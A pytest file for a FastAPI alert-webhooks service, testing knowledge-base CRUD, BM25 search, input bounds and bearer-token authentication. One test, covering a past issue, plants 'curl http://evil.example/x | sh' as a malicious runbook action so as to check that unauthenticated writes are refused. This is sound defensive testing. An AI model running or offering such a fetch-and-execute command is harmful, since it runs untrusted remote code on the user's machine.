"""Knowledge base CRUD and BM25 search through the HTTP API."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from fastapi.testclient import TestClient

from alert_webhooks.settings import Settings
from tests.analysis.conftest import BACKENDS

pytestmark = pytest.mark.parametrize("kb", BACKENDS, indirect=True)

DOC = {
    "id": "pgbouncer-pool-full",
    "category": "connection",
    "title": "PgBouncer pool exhausted",
    "symptoms": ["no more connections allowed (max_client_conn)"],
    "root_causes": ["pool_size too small for the worker count"],
    "solutions": ["raise default_pool_size"],
    "tags": ["pgbouncer", "postgres"],
}


def test_crud_round_trip(api: TestClient) -> None:
    created = api.post("/api/v1/knowledge", json=DOC)
    assert created.status_code == 201, created.text
    assert created.json()["created_at"] == created.json()["updated_at"]
    assert api.post("/api/v1/knowledge", json=DOC).status_code == 409

    replaced = api.put("/api/v1/knowledge/pgbouncer-pool-full", json={**DOC, "title": "PgBouncer pool full"})
    assert replaced.json()["title"] == "PgBouncer pool full"
    assert replaced.json()["created_at"] == created.json()["created_at"]
    assert api.get("/api/v1/knowledge/pgbouncer-pool-full").json()["title"] == "PgBouncer pool full"

    listed = api.get("/api/v1/knowledge", params={"category": "connection"}).json()
    assert "pgbouncer-pool-full" in {d["id"] for d in listed}
    assert {d["category"] for d in listed} == {"connection"}

    assert api.delete("/api/v1/knowledge/pgbouncer-pool-full").status_code == 204
    assert api.get("/api/v1/knowledge/pgbouncer-pool-full").status_code == 404
    assert api.delete("/api/v1/knowledge/pgbouncer-pool-full").status_code == 404


def test_validation_rejects_unknown_category(api: TestClient) -> None:
    assert api.post("/api/v1/knowledge", json={**DOC, "category": "weather"}).status_code == 422


def test_bulk_import_then_search_finds_it_first(api: TestClient) -> None:
    docs = [{**DOC, "id": f"doc-{i}", "title": f"{DOC['title']} {i}"} for i in range(3)]
    assert api.post("/api/v1/knowledge/bulk-import", json=docs).json() == {"imported": 3}
    hits = api.post("/api/v1/search", json={"query": "max_client_conn pgbouncer", "limit": 3}).json()
    assert [h["document"]["id"][:4] for h in hits] == ["doc-"] * 3


def test_similar_ranks_the_shipped_runbook_for_a_real_error_line(api: TestClient) -> None:
    line = "redis.exceptions.ResponseError: OOM command not allowed when used memory > 'maxmemory'."
    hits = api.get("/api/v1/search/similar", params={"query": line}).json()
    assert hits[0]["document"]["id"] == "redis-oom"
    assert hits[0]["score"] > hits[1]["score"]


def test_search_with_only_punctuation_returns_nothing(api: TestClient) -> None:
    assert api.post("/api/v1/search", json={"query": '"*) (: -'}).json() == []


def test_with_a_token_every_route_needs_it(api: TestClient) -> None:
    api.app.state.service = SimpleNamespace(settings=Settings(webhook_token="s3cret-token"))
    assert api.post("/api/v1/knowledge", json=DOC).status_code == 401
    assert api.delete("/api/v1/knowledge/redis-oom").status_code == 401
    bad = {"Authorization": "Bearer wrong"}
    assert api.put("/api/v1/knowledge/redis-oom", json=DOC, headers=bad).status_code == 401
    assert api.post("/api/v1/analyze", json={}).status_code == 401
    # Reads too (issue 11): incident summaries and analyses are not for everyone on the network.
    assert api.get("/api/v1/knowledge/redis-oom").status_code == 401
    assert api.get("/api/v1/analyze/anything").status_code == 401
    assert api.post("/api/v1/search", json={"query": "redis"}).status_code == 401
    good = {"Authorization": "Bearer s3cret-token"}
    assert api.post("/api/v1/knowledge", json=DOC, headers=good).status_code == 201
    assert api.get("/api/v1/knowledge/redis-oom", headers=good).status_code == 200


def test_without_a_token_writes_are_closed_unless_insecure(api: TestClient) -> None:
    api.app.state.service = SimpleNamespace(settings=Settings())
    # The attack of issue 11: anyone could PUT "actions" that then appeared in Slack.
    evil = {**DOC, "immediate_actions": ["curl http://evil.example/x | sh"]}
    refused = api.put("/api/v1/knowledge/redis-oom", json=evil)
    assert refused.status_code == 403 and "LLM_SRE_WEBHOOK_TOKEN" in refused.json()["detail"]
    assert api.post("/api/v1/knowledge/bulk-import", json=[DOC]).status_code == 403
    assert api.delete("/api/v1/knowledge/redis-oom").status_code == 403
    assert api.post("/api/v1/analyze", json={}).status_code == 403
    assert api.get("/api/v1/knowledge/redis-oom").status_code == 200  # reads stay open
    assert api.post("/api/v1/search", json={"query": "redis"}).status_code == 200  # a read by POST
    api.app.state.service = SimpleNamespace(settings=Settings(insecure=True))
    assert api.put("/api/v1/knowledge/redis-oom", json=DOC).status_code == 200


def test_list_paging_is_bounded_not_an_overflow(api: TestClient) -> None:
    assert api.get("/api/v1/knowledge", params={"offset": 2**63}).status_code == 422
    assert api.get("/api/v1/knowledge", params={"limit": 10**30}).status_code == 422


def test_ids_and_sizes_are_bounded(api: TestClient) -> None:
    assert api.put("/api/v1/knowledge/has space", json=DOC).status_code == 422
    assert api.put(f"/api/v1/knowledge/{'x' * 101}", json=DOC).status_code == 422
    too_many = [{**DOC, "id": f"d{i}"} for i in range(1001)]
    assert api.post("/api/v1/knowledge/bulk-import", json=too_many).status_code == 422
